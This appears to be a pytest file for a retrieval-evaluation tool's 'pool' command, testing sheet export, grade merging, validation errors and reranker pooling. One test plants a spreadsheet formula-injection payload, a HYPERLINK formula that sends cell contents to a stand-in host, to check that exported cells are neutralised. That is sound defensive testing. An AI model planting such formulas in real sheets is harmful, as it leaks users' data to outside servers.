"""`rageval pool`: pooling systems' top k, the judging sheet, and merging it back."""

import csv
import json
import shutil
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from rageval_pipeline.cli import main
from rageval_pipeline.core.curation import pool
from rageval_pipeline.core.suites.chunking import ChunkingConfig
from rageval_pipeline.core.suites.golden import load_suite
from tests.test_rerank import cross_encoder  # noqa: F401 - the module's fixture

FIXTURES = Path(__file__).parent / "fixtures" / "pool"
HEADER = "query_id,query,target_id,target_text,systems,best_rank,grade\n"


@pytest.fixture
def suite_dir(tmp_path: Path) -> Path:
    return Path(shutil.copytree(FIXTURES / "poolsuite", tmp_path / "poolsuite"))


def _sheet(tmp_path: Path, rows: list[str], name: str = "sheet.csv") -> Path:
    path = tmp_path / name
    path.write_text(HEADER + "".join(r + "\n" for r in rows), encoding="utf-8")
    return path


def _judgments(suite_dir: Path) -> dict[str, dict[str, int]]:
    raw = json.loads((suite_dir / "suite.json").read_text())
    return {q["id"]: q.get("judgments", {}) for q in raw["queries"]}


def test_export_lists_unjudged_pooled_targets_with_their_systems(tmp_path, capsys):
    sheet = tmp_path / "pool.csv"
    argv = [
        "pool",
        "export",
        str(FIXTURES / "poolsuite"),
        "--systems",
        str(FIXTURES / "systems.yaml"),
    ]
    assert main([*argv, "--no-extra", "-o", str(sheet)]) == 0
    assert capsys.readouterr().out == (
        "pooled 6 (query, target) pairs at depth 20 over 2 systems (bm25, bm25_para); "
        f"3 unjudged written to {sheet}\n"
    )
    with sheet.open(newline="", encoding="utf-8") as f:
        rows = [
            (r["query_id"], r["target_id"], r["systems"], r["grade"]) for r in csv.DictReader(f)
        ]
    # Judged targets (tokens:chunk:1, limits:chunk:1) are not listed; nothing is pre-graded.
    assert rows == [
        ("Q1", "tokens:chunk:0", "bm25@1 bm25_para@1", ""),
        ("Q1", "tokens:chunk:2", "bm25@2 bm25_para@2", ""),
        ("Q2", "limits:chunk:0", "bm25@2 bm25_para@2", ""),
    ]


def test_a_reranker_is_pooled_on_the_reference_chunks_of_its_candidates(tmp_path, capsys):
    """A rerank system reads the corpus chunked as its candidates are (the suite's reference
    chunking) and returns their ids: pooled like them, not refused for a missing fusion level."""
    systems = tmp_path / "systems.yaml"
    systems.write_text(
        "systems:\n"
        "  bm25: {retriever: bm25, chunking: {strategy: reference}}\n"
        "  reranked: {retriever: rerank, candidates: bm25, model: bi-encoder}\n",
        encoding="utf-8",
    )
    sheet = tmp_path / "pool.jsonl"
    argv = ["pool", "export", str(FIXTURES / "poolsuite"), "--systems", str(systems)]
    assert main([*argv, "--no-extra", "--embed", "-o", str(sheet)]) == 0
    assert "over 2 systems (bm25, reranked)" in capsys.readouterr().out
    rows = [json.loads(line) for line in sheet.read_text(encoding="utf-8").splitlines()]
    named = {s.split("@")[0] for r in rows for s in r["systems"].split()}
    assert "reranked" in named
    assert all(":chunk:" in r["target_id"] for r in rows)


def test_other_chunkings_map_to_the_reference_chunks_they_cover():
    mapper = pool.ReferenceMap(load_suite(FIXTURES / "poolsuite"))
    six = ChunkingConfig(strategy="fixed", size=6, overlap=0)
    # Tokens 0-6 are exactly section 0; 6-12 lie inside section 1 (tokens 6-19); 18-24 graze
    # section 1 by one token and sit mostly in section 2 (19-35).
    assert mapper.to_reference("tokens:chunk:0", six) == ["tokens:chunk:0"]
    assert mapper.to_reference("tokens:chunk:1", six) == ["tokens:chunk:1"]
    assert mapper.to_reference("tokens:chunk:3", six) == ["tokens:chunk:2"]
    twenty = ChunkingConfig(strategy="fixed", size=20, overlap=0)
    assert mapper.to_reference("tokens:chunk:0", twenty) == ["tokens:chunk:0", "tokens:chunk:1"]
    assert mapper.to_reference("tokens:chunk:99", twenty) == []


def test_difficulty_from_the_rank_of_the_best_target():
    suite = load_suite(FIXTURES / "poolsuite")
    ranks = pd.DataFrame(
        [
            ("Q1", "tokens:chunk:1", "a", 1),
            ("Q1", "tokens:chunk:1", "b", 2),  # ease (1 + 1/2) / 2 = 0.75 -> easy
            ("Q2", "limits:chunk:1", "a", 5),  # ease (1/5 + 0) / 2 = 0.1 -> hard
        ],
        columns=["query_id", "target_id", "system", "rank"],
    )
    assert pool.difficulty(suite, ranks, ["a", "b"], 20) == {
        "Q1": "easy",
        "Q2": "hard",
        "Q3": "hard",  # no answer in the corpus
    }


def test_merge_adds_grades_skips_empty_rows_and_keeps_the_indentation(suite_dir, tmp_path, capsys):
    sheet = _sheet(
        tmp_path,
        [
            "Q1,q,tokens:chunk:0,text,bm25@1,1,1",
            "Q1,q,tokens:chunk:2,text,bm25@2,2,",
            "Q1,q,tokens:chunk:3,text,bm25@3,3,0",  # repeats the existing 0
            "Q2,q,limits:chunk:0,text,bm25@2,2,2",
        ],
    )
    before = json.loads((suite_dir / "suite.json").read_text())
    assert main(["pool", "merge", str(suite_dir), str(sheet)]) == 0
    assert capsys.readouterr().out == (
        f"merged {sheet} into {suite_dir / 'suite.json'}: 2 added, 0 overwritten, "
        "1 unchanged, 1 skipped (no grade)\n"
    )
    before["queries"][0]["judgments"]["tokens:chunk:0"] = 1
    before["queries"][1]["judgments"]["limits:chunk:0"] = 2
    assert (suite_dir / "suite.json").read_text() == json.dumps(before, indent=2) + "\n"


def test_merge_lists_conflicts_and_writes_nothing_without_overwrite(suite_dir, tmp_path, capsys):
    sheet = _sheet(
        tmp_path,
        ["Q1,q,tokens:chunk:0,text,x,1,1", "Q1,q,tokens:chunk:3,text,x,1,2"],
    )
    original = (suite_dir / "suite.json").read_bytes()
    assert main(["pool", "merge", str(suite_dir), str(sheet)]) == 2
    assert capsys.readouterr().err == (
        f"conflict: {sheet}:3: Q1 tokens:chunk:3: judged 0, sheet says 2\n"
        f"error: {sheet}: 1 grade(s) contradict existing judgments; nothing written "
        "(re-run with --overwrite to replace them)\n"
    )
    assert (suite_dir / "suite.json").read_bytes() == original
    assert main(["pool", "merge", str(suite_dir), str(sheet), "--overwrite"]) == 0
    assert "1 added, 1 overwritten" in capsys.readouterr().out
    assert _judgments(suite_dir)["Q1"] == {
        "tokens:chunk:1": 3,
        "tokens:chunk:3": 2,
        "tokens:chunk:0": 1,
    }


@pytest.mark.parametrize(
    ("row", "message"),
    [
        ("Q1,q,tokens:chunk:0,text,x,1,5", 'grade: must be 0, 1, 2 or 3 (got "5")'),
        ("Q1,q,tokens:chunk:0,text,x,1,high", 'grade: must be 0, 1, 2 or 3 (got "high")'),
        ("Q9,q,tokens:chunk:0,text,x,1,1", "query_id: unknown query 'Q9'"),
        (
            "Q1,q,nope:chunk:0,text,x,1,1",
            "target_id: chunk 'nope:chunk:0': unknown target 'nope': no document id equals it",
        ),
        (
            "Q1,q,tokens:chunk:9,text,x,1,1",
            "target_id: unknown chunk 'tokens:chunk:9': document 'tokens' has 4 chunk(s), "
            "numbered 0 to 3, under the reference chunking",
        ),
        (
            "Q1,q,tokens,text,x,1,1",
            "target_id: 'tokens' is not a chunk id; query Q1 is judged by chunk",
        ),
    ],
)
def test_merge_rejects_a_bad_row_naming_sheet_line_and_field(
    suite_dir, tmp_path, capsys, row, message
):
    sheet = _sheet(tmp_path, ["Q2,q,limits:chunk:0,text,x,1,2", row])
    original = (suite_dir / "suite.json").read_bytes()
    assert main(["pool", "merge", str(suite_dir), str(sheet)]) == 2
    assert capsys.readouterr() == ("", f"error: {sheet}:3: {message}\n")
    assert (suite_dir / "suite.json").read_bytes() == original


def test_merge_rejects_a_target_graded_twice(suite_dir, tmp_path, capsys):
    sheet = _sheet(tmp_path, ["Q1,q,tokens:chunk:0,t,x,1,1", "Q1,q,tokens:chunk:0,t,x,1,2"])
    assert main(["pool", "merge", str(suite_dir), str(sheet)]) == 2
    assert capsys.readouterr().err == (
        f"error: {sheet}:3: target_id: Q1 tokens:chunk:0 is graded again (first at line 2)\n"
    )


def test_jsonl_sheet_line_numbers_and_grades(suite_dir, tmp_path, capsys):
    sheet = tmp_path / "sheet.jsonl"
    rows = [
        {"query_id": "Q1", "target_id": "tokens:chunk:2", "grade": 2},
        {"query_id": "Q1", "target_id": "tokens:chunk:0", "grade": None},
        {"query_id": "Q2", "target_id": "limits:chunk:0", "grade": True},
    ]
    sheet.write_text("".join(json.dumps(r) + "\n" for r in rows))
    assert main(["pool", "merge", str(suite_dir), str(sheet)]) == 2
    assert capsys.readouterr().err == (
        f"error: {sheet}:3: grade: must be 0, 1, 2 or 3 (got true)\n"
    )
    sheet.write_text("".join(json.dumps(r) + "\n" for r in rows[:2]))
    assert main(["pool", "merge", str(suite_dir), str(sheet)]) == 0
    assert "1 added, 0 overwritten, 0 unchanged, 1 skipped" in capsys.readouterr().out
    assert _judgments(suite_dir)["Q1"]["tokens:chunk:2"] == 2


@pytest.mark.parametrize(
    ("second", "problem"),
    [("{not json", "invalid JSON (Expecting property name"), ("[1]", "expected a JSON object")],
)
def test_a_bad_jsonl_sheet_line_is_named(suite_dir, tmp_path, capsys, second, problem):
    """Sheets are read by the one JSON Lines reader of core.suites.loaders."""
    sheet = tmp_path / "sheet.jsonl"
    first = json.dumps({"query_id": "Q1", "target_id": "tokens:chunk:2", "grade": 2})
    sheet.write_text(f"{first}\n\n{second}\n")
    original = (suite_dir / "suite.json").read_bytes()
    assert main(["pool", "merge", str(suite_dir), str(sheet)]) == 2
    assert capsys.readouterr().err.startswith(f"error: {sheet}:3: {problem}")
    assert (suite_dir / "suite.json").read_bytes() == original


def test_a_query_judged_for_the_first_time_gets_its_primary(suite_dir, tmp_path, capsys):
    # Q3 is an edge query without judgments: its first grade >= 1 names it primary.
    sheet = _sheet(tmp_path, ["Q3,,tokens:chunk:0,text,x,1,1", "Q3,,tokens:chunk:2,text,x,1,2"])
    assert main(["pool", "merge", str(suite_dir), str(sheet)]) == 0
    raw = json.loads((suite_dir / "suite.json").read_text())["queries"][2]
    assert raw["judgments"] == {"tokens:chunk:0": 1, "tokens:chunk:2": 2}
    assert raw["primary"] == "tokens:chunk:2"


def test_merge_that_would_break_the_suite_writes_nothing(suite_dir, tmp_path, capsys):
    # Q1's primary would no longer carry its highest grade.
    rows = ["Q1,,tokens:chunk:1,text,x,1,2", "Q1,,tokens:chunk:0,text,x,1,3"]
    sheet = _sheet(tmp_path, rows)
    original = (suite_dir / "suite.json").read_bytes()
    assert main(["pool", "merge", str(suite_dir), str(sheet), "--overwrite"]) == 2
    assert capsys.readouterr().err == (
        f"error: {suite_dir / 'suite.json'}: queries[0].primary: the edited suite would not "
        "validate: 'tokens:chunk:1' has grade 2, but the highest grade in judgments is 3\n"
    )
    assert (suite_dir / "suite.json").read_bytes() == original
    assert not [p for p in suite_dir.iterdir() if p.name.startswith(".")]


def test_a_sheet_must_be_csv_or_jsonl(suite_dir, tmp_path, capsys):
    sheet = tmp_path / "sheet.txt"
    sheet.write_text("x")
    assert main(["pool", "merge", str(suite_dir), str(sheet)]) == 2
    assert (
        capsys.readouterr().err == f"error: {sheet}: a judging sheet must end in .csv or .jsonl\n"
    )


def test_difficulty_command_reports_then_stores_the_measurement(suite_dir, capsys):
    argv = ["pool", "difficulty", str(suite_dir), "--systems", str(FIXTURES / "systems.yaml")]
    # bm25 and bm25_para both rank Q1's answer (tokens:chunk:1) 2nd -> ease 0.5 -> medium;
    # Q2's answer (limits:chunk:1) 1st -> easy; Q3 has no answer -> hard.
    assert main([*argv, "--no-extra"]) == 1
    assert capsys.readouterr().out == (
        "Q1: stored None, measured medium\n"
        "Q2: stored None, measured easy\n"
        "Q3: stored None, measured hard\n"
        "easy 1, medium 1, hard 1\n"
    )
    assert main([*argv, "--no-extra", "--write"]) == 0
    assert capsys.readouterr().out.endswith("stored 3 changed difficulties\n")
    raw = json.loads((suite_dir / "suite.json").read_text())
    assert [q["difficulty"] for q in raw["queries"]] == ["medium", "easy", "hard"]
    assert main([*argv, "--no-extra"]) == 0


def test_document_level_suites_pool_the_top_k_documents_not_chunks():
    suite = load_suite(FIXTURES / "dupes")  # judged by document id
    run = pd.DataFrame(
        {
            "query_id": ["Q1", "Q1", "Q1"],
            "doc_id": ["copy:chunk:0", "copy:chunk:1", "other:chunk:0"],
            "source_id": ["copy", "copy", "other"],
            "score": [3.0, 2.0, 1.0],
            "rank": [1, 2, 3],
        }
    )
    systems = {"a": pool.extra_systems()["bm25-paragraph"]}
    ranks = pool.target_ranks(suite, systems, {"a": run}, 2)
    # Two chunks of one document are one target: `other` is the 2nd document, inside k = 2.
    assert ranks.to_dict("records") == [
        {"query_id": "Q1", "target_id": "copy", "system": "a", "rank": 1},
        {"query_id": "Q1", "target_id": "other", "system": "a", "rank": 2},
    ]


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_formula_cells_are_neutralised_in_the_sheet_and_restored_on_merge(tmp_path, capsys):
    """Ids and texts a spreadsheet would run as formulas reach the sheet behind one `'`, and
    the merge reads back exactly the ids that were written."""
    suite_dir = tmp_path / "poolsuite"
    suite_dir.mkdir()
    raw = (FIXTURES / "poolsuite" / "suite.json").read_text().replace('"tokens', '"-tokens')
    suite = json.loads(raw.replace('"id": "Q1"', '"id": "@Q1"'))
    suite["queries"][0]["query"] = (
        '=HYPERLINK("http://x.test/?"&A1,"how long does an access token last")'
    )
    suite["queries"][1]["query"] = "'what happens when I send too many requests"
    (suite_dir / "suite.json").write_text(json.dumps(suite, indent=2) + "\n")
    sheet = tmp_path / "pool.csv"
    argv = [
        "pool",
        "export",
        str(suite_dir),
        "--systems",
        str(FIXTURES / "systems.yaml"),
        "--no-extra",
    ]
    assert main([*argv, "-o", str(sheet)]) == 0
    capsys.readouterr()
    with sheet.open(newline="", encoding="utf-8") as f:
        cells = list(csv.reader(f))
    assert not [c for row in cells for c in row if c.startswith(FORMULA_STARTS)]
    grade, target = cells[0].index("grade"), cells[0].index("target_id")
    assert [[*row[:2], row[target]] for row in cells[1:]] == [
        ["'@Q1", "'" + suite["queries"][0]["query"], "'-tokens:chunk:0"],
        ["'@Q1", "'" + suite["queries"][0]["query"], "'-tokens:chunk:2"],
        ["Q2", "''what happens when I send too many requests", "limits:chunk:0"],
    ]
    for row in cells[1:]:
        row[grade] = "2"  # the judge's grades
    with sheet.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f, lineterminator="\n").writerows(cells)
    assert main(["pool", "merge", str(suite_dir), str(sheet)]) == 0
    assert "3 added" in capsys.readouterr().out
    judged = _judgments(suite_dir)
    assert judged["@Q1"] == {"-tokens:chunk:1": 3, "-tokens:chunk:3": 0} | {
        "-tokens:chunk:0": 2,
        "-tokens:chunk:2": 2,
    }
    assert judged["Q2"]["limits:chunk:0"] == 2


def test_a_sheet_csv_cannot_read_is_one_line(suite_dir, tmp_path, capsys):
    sheet = _sheet(
        tmp_path, ["Q1,q,tokens:chunk:0,text,x,1,1", "Q1,q,x," + "t" * 200_000 + ",x,1,1"]
    )
    assert main(["pool", "merge", str(suite_dir), str(sheet)]) == 2
    assert capsys.readouterr().err == (
        f"error: {sheet}:3: not readable as CSV (field larger than field limit (131072))\n"
    )


def test_a_reranker_in_the_pool_reads_its_candidates_on_the_suites_chunking(
    tmp_path,
    cross_encoder,  # noqa: F811
):
    """A reranker over a system on the suite's (`reference`) chunking reads the chunks that
    system returned, as the pipeline gives them: the suite's markdown sections, not the
    default chunking's whole documents."""
    from sentence_transformers import CrossEncoder

    from rageval_pipeline.core.suites.chunking import chunk_corpus
    from rageval_pipeline.core.suites.loaders import suite_tables
    from rageval_pipeline.core.systems import load_systems

    suite = load_suite(FIXTURES / "poolsuite" / "suite.json")
    assert suite.chunking != ChunkingConfig()
    spec = {
        "first": {"retriever": "bm25", "chunking": {"strategy": "reference"}},
        "reranked": {"retriever": "rerank", "candidates": "first", "model": str(cross_encoder)},
    }
    (tmp_path / "systems.yaml").write_text(json.dumps({"systems": spec}))
    systems = load_systems(tmp_path / "systems.yaml")
    asked = []

    def stored(chunking: ChunkingConfig) -> pd.DataFrame:
        asked.append(chunking)
        return chunk_corpus(suite_tables(suite).corpus, chunking, "")

    runs = pool.run_systems(
        suite,
        systems,
        3,
        embeddings_dir=tmp_path / "emb",
        base_dir=tmp_path,
        stored_chunks=stored,
    )
    assert asked == [suite.chunking, suite.chunking]
    sections = stored(suite.chunking)
    texts = dict(zip(sections["chunk_id"], sections["title"] + " " + sections["text"], strict=True))
    model = CrossEncoder(str(cross_encoder), device="cpu")
    asked_queries = suite_tables(suite).queries
    queries = dict(zip(asked_queries["query_id"], asked_queries["text"], strict=True))
    reranked = runs["reranked"]
    assert set(reranked["doc_id"]) <= set(runs["first"]["doc_id"])
    assert reranked["doc_id"].notna().any()
    for qid, got in reranked[reranked["doc_id"].notna()].groupby("query_id"):  # null: no hit
        expected = model.predict([(queries[qid], texts[c]) for c in got["doc_id"]])
        np.testing.assert_allclose(got["score"], expected, rtol=1e-5)
